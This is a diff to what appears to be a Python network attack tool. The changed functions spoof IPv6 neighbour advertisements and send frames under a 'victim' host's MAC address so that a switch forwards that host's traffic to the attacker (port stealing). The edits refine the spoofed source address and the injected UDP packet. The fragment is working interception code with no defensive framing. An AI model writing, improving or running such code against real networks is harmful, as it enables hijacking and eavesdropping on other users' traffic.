@@ -125,7 +125,7 @@ def _from_mac(prefix: str, mac: bytes) -> bytes:
 
 def _neighbour_advertisement(claimed: str, mac: bytes, target: str, target_mac: bytes) -> bytes:
     body = struct.pack("!I", 0x60000000) + _ipv6(claimed) + b"\x02\x01" + mac
-    return _icmpv6(target_mac, _ipv6(claimed), _ipv6(target), 136, body)
+    return _icmpv6(target_mac, _from_mac("fe80::", own_mac()), _ipv6(target), 136, body)  # from an address of ours
 
 
 def routed(prefix: str, victims_ipv4: str) -> str:
@@ -174,10 +174,11 @@ def taken_over(victim: str, sender: str) -> str:
     """Send with a neighbour's hardware address; what is sent to it then."""
     line = _frames(_IP)
     theirs, senders = mac_of(victim), mac_of(sender)
+    # A packet of ours but for that; the bridge learns where it comes from.
+    packet = ip(own_address(), sender, _UDP, struct.pack("!HHHH", 4444, 9, 8, 0))
     until = time.monotonic() + SECONDS
     while time.monotonic() < until:
-        # To nobody: the bridge learns where it comes from all the same.
-        line.send(senders + theirs + struct.pack("!H", 0x88B5) + bytes(46))
+        line.send(senders + theirs + struct.pack("!H", _IP) + packet)
         time.sleep(0.005)
         while frame := _received(line):
             if frame[:6] == theirs and frame[6:12] == senders:
